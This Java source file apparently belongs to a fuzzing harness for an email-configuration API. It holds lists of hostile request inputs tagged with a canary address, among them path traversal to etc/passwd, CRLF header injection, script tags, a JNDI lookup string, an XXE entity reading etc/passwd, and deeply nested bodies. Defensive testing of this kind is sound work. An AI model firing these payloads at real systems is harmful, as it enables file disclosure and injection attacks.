package dev.waymark.attack;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;

/** Hostile parts of requests; each text holds the canary, an address that no log may repeat. */
final class HostileTexts {
  /** Part of every address below. */
  static final String CANARY = "canary-7f3a";

  private static final String ADDRESS = CANARY + "@" + CANARY + ".example";

  /** Values as they are written into a path or a query, encoded or not. */
  private static final List<String> VALUES =
      List.of(
          ADDRESS,
          "%00" + ADDRESS,
          ADDRESS + "%0d%0aSet-Cookie:%20a=b",
          ADDRESS + "%ED%A0%80",
          ADDRESS + "%C0%AF",
          ADDRESS + "%F4%90%80%80",
          ADDRESS + "%zz",
          ADDRESS + "%",
          ADDRESS + "%2",
          ADDRESS + "%25%34%31",
          "%2e%2e%2f%2e%2e%2fetc%2fpasswd" + ADDRESS,
          "../../" + ADDRESS,
          ".;/" + ADDRESS,
          ";" + ADDRESS + "=" + ADDRESS,
          "%3Cscript%3E" + ADDRESS,
          "%22'%3E%26" + ADDRESS,
          "%E2%80%AE" + ADDRESS,
          "%EF%BB%BF" + ADDRESS,
          "{" + ADDRESS + "}",
          "[" + ADDRESS + "]",
          "${jndi:ldap://" + CANARY + "/a}" + ADDRESS,
          "%25EMAILADDRESS%25" + ADDRESS,
          "\\" + ADDRESS,
          "|" + ADDRESS + "`",
          CANARY + ".example",
          CANARY,
          CANARY + "%40127.0.0.1",
          CANARY + "%40%5B::1%5D",
          CANARY + "%40xn--" + CANARY,
          CANARY + "%40" + "a.".repeat(130) + "example",
          "%C3%9F%40" + CANARY + ".stra%C3%9Fe.example",
          CANARY + "@" + "b".repeat(64) + ".example",
          "x".repeat(3000) + ADDRESS,
          "9".repeat(400) + CANARY,
          "-1" + CANARY,
          "1e999" + CANARY,
          "2026-13-45T99:99:99Z" + CANARY,
          "+999999999-12-31T23:59:59.999999999Z" + CANARY,
          "*" + CANARY,
          "&&==&" + CANARY,
          CANARY + "?" + CANARY + "#" + CANARY);

  /** Valid bodies of the API, which are damaged. */
  private static final List<String> DOCUMENTS =
      List.of(
          "{\"provider\":\"gmail\",\"variables\":{\"SERVER\":\"%s\"},\"includeSubdomains\":true}",
          "{\"movedTo\":\"%s\"}",
          "{\"provider\":\"gmail\",\"login\":[{\"pattern\":\"%s\",\"username\":\"%%EMAILADDRESS%%\"}]}",
          "{\"displayName\":\"%s\",\"shortName\":\"a\",\"services\":[{\"protocol\":\"imap\",\"host\":\"%s\","
              + "\"port\":993,\"security\":\"tls\",\"authentication\":[\"password-cleartext\"],"
              + "\"username\":\"%%EMAILADDRESS%%\"}],\"links\":{\"webmail\":\"https://%s/\"}}",
          "{\"domain\":\"%s\"}",
          "{\"email\":\"%s\",\"password\":\"%s\"}",
          "{\"email\":\"%s\",\"language\":\"de\",\"expiresAt\":\"2099-01-01T00:00:00Z\"}",
          "{\"provider\":\"%s\"}",
          "{\"name\":\"%s\",\"role\":\"support\",\"providers\":[\"%s\"]}",
          "{\"enabled\":\"%s\"}",
          "{\"publishAt\":\"%s\"}",
          """
          {"name":"%s","provider":"gmail"}
          {"name":"b.example","provider":"%s"}
          """,
          """
          domain,provider,includeSubdomains,var.SERVER
          %s,gmail,true,%s
          "%s""",
          "<Autodiscover><Request><EMailAddress>%s</EMailAddress></Request></Autodiscover>",
          "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><Autodiscover><Request>"
              + "<EMailAddress>&b;%s</EMailAddress></Request></Autodiscover>",
          "<clientConfig version=\"1.1\"><emailProvider id=\"%s\"><domain>%s</domain>"
              + "<incomingServer type=\"imap\"><hostname>%s</hostname></incomingServer>"
              + "</emailProvider></clientConfig>",
          "token=%s&next=%s",
          "q=%s&csrf=%s&id=%s",
          "PK\u0003\u0004%s",
          "[".repeat(5000) + "%s",
          "{\"a\":".repeat(3000) + "\"%s\"",
          "");

  private static final List<String> PIECES =
      List.of(
          "\0",
          "\"",
          "\\",
          "{",
          "}",
          "[",
          "]",
          ",",
          ":",
          "null",
          "\\u0000",
          "\\ud800",
          "<",
          ">",
          "&",
          "]]>",
          "<![CDATA[",
          "%",
          "\r\n",
          "\uFEFF",
          "\u202E",
          "\uD83D\uDE00",
          "1e999",
          "-0",
          "=",
          ";");

  private HostileTexts() {}

  static <T> T any(List<T> all, Random random) {
    return all.get(random.nextInt(all.size()));
  }

  /** A value for a path or query. */
  static String value(Random random) {
    return any(VALUES, random);
  }

  /** A value for a header: without the line breaks that would end it. */
  static String header(Random random) {
    return any(PIECES, random).replaceAll("[\r\n]", "") + value(random);
  }

  /** The body of a request, one character for one byte. */
  static String body(Random random) {
    String text = any(DOCUMENTS, random).replace("%s", ADDRESS).replace("%%", "%");
    for (int damages = random.nextInt(4); damages > 0; damages--) {
      int at = random.nextInt(text.length() + 1);
      int end = Math.min(text.length(), at + random.nextInt(8));
      text = text.substring(0, at) + any(PIECES, random) + text.substring(end);
    }
    return new String(encoded(text, random), StandardCharsets.ISO_8859_1);
  }

  private static byte[] encoded(String text, Random random) {
    return switch (random.nextInt(12)) {
      case 0 -> text.getBytes(StandardCharsets.UTF_16);
      case 1 -> text.getBytes(StandardCharsets.UTF_16LE);
      case 2 -> text.getBytes(StandardCharsets.ISO_8859_1);
      default -> text.getBytes(StandardCharsets.UTF_8);
    };
  }
}
